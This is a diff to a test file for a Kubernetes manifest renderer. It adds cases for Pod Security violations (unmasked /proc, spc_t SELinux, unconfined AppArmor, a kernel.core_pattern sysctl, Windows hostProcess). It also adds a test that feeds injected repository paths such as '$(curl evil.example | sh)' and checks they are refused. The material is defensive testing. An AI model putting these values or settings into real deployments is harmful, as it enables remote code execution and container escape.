@@ -80,6 +80,10 @@ def _leader(docs):
     return next(d for d in docs if d["kind"] == "LeaderWorkerSet")["spec"]["leaderWorkerTemplate"]["leaderTemplate"]["spec"]
 
 
+def _leader_template(docs):
+    return next(d for d in docs if d["kind"] == "LeaderWorkerSet")["spec"]["leaderWorkerTemplate"]["leaderTemplate"]
+
+
 def _worker(docs):
     return next(d for d in docs if d["kind"] == "LeaderWorkerSet")["spec"]["leaderWorkerTemplate"]["workerTemplate"]["spec"]
 
@@ -114,6 +118,21 @@ BREAKS = [
         2, "pip install locust && locust"), "installs packages"),
     ("unpinned image", LOADTEST_MANIFESTS, lambda d: _job(d)["containers"][0].__setitem__("image", "locustio/locust"),
      "not pinned"),
+    # Pod Security's baseline rules, which "restricted" includes (second review)
+    ("unmasked /proc", MANIFESTS, lambda d: _leader(d)["containers"][0]["securityContext"].__setitem__(
+        "procMount", "Unmasked"), "procMount"),
+    ("super-privileged SELinux type", MANIFESTS, lambda d: _worker(d)["containers"][0]["securityContext"].__setitem__(
+        "seLinuxOptions", {"type": "spc_t"}), "SELinux"),
+    ("SELinux user", MANIFESTS, lambda d: _worker(d).setdefault("securityContext", {}).__setitem__(
+        "seLinuxOptions", {"user": "system_u"}), "SELinux"),
+    ("AppArmor unconfined", LOADTEST_MANIFESTS, lambda d: _job(d)["containers"][0]["securityContext"].__setitem__(
+        "appArmorProfile", {"type": "Unconfined"}), "AppArmor"),
+    ("AppArmor annotation", MANIFESTS, lambda d: _leader_template(d).setdefault("metadata", {}).setdefault(
+        "annotations", {}).__setitem__("container.apparmor.security.beta.kubernetes.io/triton", "unconfined"), "AppArmor"),
+    ("unsafe sysctl", MANIFESTS, lambda d: _leader(d).setdefault("securityContext", {}).__setitem__(
+        "sysctls", [{"name": "kernel.core_pattern", "value": "|/tmp/x"}]), "sysctl"),
+    ("Windows host process", MANIFESTS, lambda d: _leader(d)["containers"][0]["securityContext"].__setitem__(
+        "windowsOptions", {"hostProcess": True}), "hostProcess"),
 ]
 
 
@@ -140,4 +159,23 @@ def test_a_newline_in_artifacts_dir_is_refused_before_any_manifest_is_written(tm
     result = CliRunner().invoke(app, ["render", str(spec), "-o", str(tmp_path / "repo"), "--gpu"])
     assert isinstance(result.exception, SpecError), result.output
     assert "artifacts.dir" in result.exception.message and "control character" in result.exception.message
+    assert not (tmp_path / "repo").exists()
+
+
+@pytest.mark.parametrize("field, value", [("kubernetes.repository_path", "/models/$(curl evil.example | sh)/repo"),
+                                          ("kubernetes.repository_path", "/models/`id`"),
+                                          ("artifacts.dir", "/data/my models")])
+def test_a_repository_path_tritons_stub_launcher_would_run_is_refused_for_the_pods(tmp_path, field, value):
+    """Second review: the pods' tritonserver starts each Python model's stub with ``bash -c`` and the model's
+    path unquoted (Triton 2.51), so a repository path holding ``$(…)`` ran it in the pod however the
+    manifest quoted it (and a space kept every model from loading). Render refuses it, naming the field
+    it comes from (artifacts.dir when kubernetes.repository_path is derived from it)."""
+    spec = tmp_path / "spec.yaml"
+    data = {"serving": {"engine": "llmapi"}, "build": {"gpu": "b200"}}
+    section, key = field.split(".")
+    data.setdefault(section, {})[key] = value
+    spec.write_text(yaml.safe_dump(data))
+    result = CliRunner().invoke(app, ["render", str(spec), "-o", str(tmp_path / "repo"), "--gpu"])
+    assert isinstance(result.exception, SpecError), result.output
+    assert field in result.exception.where and "bash" in result.exception.message, result.exception
     assert not (tmp_path / "repo").exists()
